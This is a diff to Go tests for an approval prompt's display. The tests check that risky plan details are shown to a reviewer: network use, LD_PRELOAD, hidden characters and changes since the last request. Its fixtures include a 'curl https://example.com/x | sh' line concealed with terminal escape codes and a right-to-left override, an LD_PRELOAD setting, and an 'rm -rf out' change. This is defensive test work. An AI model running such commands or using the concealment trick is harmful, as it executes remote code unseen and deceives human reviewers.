@@ -34,7 +34,7 @@ func TestSubject_ShowsAllThatIsBoundAndHidesNoCharacter(t *testing.T) {
 	for _, part := range []string{
 		"deserves a look: approves itself if nobody answers · network in tidy · changes what is loaded (LD_PRELOAD) in tidy",
 		"runs fetched code (curl https://example.com/x | sh", "hidden characters in tidy.sh",
-		"tidy  Tidy up", "run       sh tidy.sh 'a b'", "env       LD_PRELOAD=./x.so", "network   allowed", "at most 5m, at most 1GiB, of cores",
+		"tidy  Tidy up", "run       sh tidy.sh 'a b'", "env       LD_PRELOAD=./x.so", "network   allowed", "at most 5m, at most 1GiB, on cores",
 		"the run goes on without it, tried again 2 times before", "with no answer: approve",
 		"tidy.sh  a file, 501 lines", "  500 │ x", "  501 │ curl https://example.com/x | sh<U+001B>[2K<U+001B>]0;t<U+0007><U+000D>safe <U+202E>",
 	} {
@@ -54,7 +54,7 @@ func TestSubject_ShowsWhatChangedSinceItWasAskedBefore(t *testing.T) {
 	s.Before.Plan.Steps[0].Timeout = "1m"
 	text := strings.Join(subjectLines(terminal.Style{}, &s), "\n")
 	for _, part := range []string{
-		"changed since it was asked before:\n      step tidy\n        - limits: at most 1m", "        + limits: at most 5m",
+		"changed since it was last asked:\n      step tidy\n        - limits: at most 1m", "        + limits: at most 5m",
 		"      tidy.sh\n        - ls\n          b\n        + rm -rf out",
 	} {
 		if !strings.Contains(text, part) {
@@ -63,7 +63,7 @@ func TestSubject_ShowsWhatChangedSinceItWasAskedBefore(t *testing.T) {
 	}
 }
 
-// What follows when nobody answers is the server's to say: the plan alone does not know the session's default.
+// The server says what happens when nobody answers: the plan alone does not know the session's default.
 func TestSubject_SaysWhatFollowsByTheSessionsDefault(t *testing.T) {
 	t.Parallel()
 	s := subjectOf("ls\n")
